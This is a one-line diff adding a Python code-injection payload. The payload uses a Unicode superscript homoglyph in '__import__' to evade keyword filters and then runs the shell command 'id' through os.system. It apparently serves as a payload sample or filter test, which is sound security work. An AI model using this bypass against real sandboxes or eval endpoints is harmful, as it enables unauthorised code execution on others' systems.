@@ -1,0 +1,1 @@
+__imporᵗ__("os").system("id")
